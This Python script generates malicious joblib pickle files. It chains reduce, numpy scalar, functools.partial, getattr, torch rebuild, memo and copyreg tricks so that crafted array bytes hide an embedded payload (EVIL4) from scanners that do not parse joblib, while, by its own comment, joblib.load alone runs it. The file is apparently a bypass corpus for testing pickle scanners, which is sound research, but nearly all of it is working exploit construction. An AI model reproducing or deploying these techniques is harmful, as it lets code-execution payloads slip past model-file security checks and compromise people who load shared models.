# joblib asks an object what it is, however it came to be, and then reads an array from the file; who
# does not know steps into the array. There bytes that swallow the payload wait for him, which
# joblib finds behind the array. Each of these runs it, with joblib.load alone.
from joblib_asm import *

WRAPPER = stack_global("joblib.numpy_pickle", "NumpyArrayWrapper")
MADE = WRAPPER + EMPTY_TUPLE + NEWOBJ
BYTES = 40


def swallowed(skipped=b""):
    """The array for joblib; behind `skipped`, one long value that ends with the payload for others."""
    body = skipped + b"B" + u32(BYTES - len(skipped) - 5 + len(EVIL4))
    return body.ljust(BYTES, b"A") + EVIL4


def filled(shape=(BYTES,), kind=None, **more):
    state = {"shape": shape, "order": "C", "allow_mmap": False, "numpy_array_alignment_bytes": None, **more}
    return (EMPTY_DICT + MARK + b"".join(text(key) + constant(value) for key, value in state.items())
            + text("subclass") + stack_global("numpy", "ndarray") + text("dtype") + (kind or dtype("u1")) + SETITEMS
            + BUILD)


def attack(name, made):
    save(name + ".joblib", proto(4) + made + filled() + swallowed() + STOP)


def called(module, name, *arguments):
    return stack_global(module, name) + args(*(raw(argument) for argument in arguments)) + REDUCE


def listed(item):
    return EMPTY_LIST + item + b"a"


NONES = args(None, None, None, None)
attack("reduce", called("functools", "reduce", stack_global("builtins", "list"), listed(MADE)))
attack("scalar", called("numpy.core.multiarray", "scalar", OBJECTS, MADE))
many = EMPTY_LIST + MARK + OBJECTS + put(7) + get(7) * 100 + MADE + b"e"
attack("reduce_many", called("functools", "reduce", stack_global("numpy.core.multiarray", "scalar"), many))
attack("partial", called("functools", "partial", WRAPPER, *(constant(None),) * 4) + EMPTY_TUPLE + REDUCE)
attack("constructor", called("builtins", "getattr", WRAPPER, text("__new__")) + MARK + WRAPPER + b"t" + REDUCE)
attack("rebuilt", called("torch._tensor", "_rebuild_from_type_v2", WRAPPER, WRAPPER, NONES, EMPTY_DICT))
# The memo has the wrapper still, when the array stands in its place.
used = MADE + put(5) + filled((1,)) + b"X" + POP
attack("remembered", used + called("numpy.core.multiarray", "scalar", OBJECTS, get(5)))
# Too many items to be kept, so that what was remembered is forgotten.
old = called("copyreg", "_reconstructor", WRAPPER, stack_global("builtins", "object"), NONE)
full = EMPTY_LIST + MARK + NONE * 70 + b"e"
attack("forgotten", full + old + put(5) + b"a" + POP + get(5))

# Types that are a letter alone: 'c' is a string, so the state says how long; 'l' depends on the system.
for letter in "clSV":
    kind = dtype(letter, 0, BYTES)
    save(f"letter_{letter}.joblib", proto(4) + MADE + filled((1,), kind) + swallowed(b"N") + STOP)
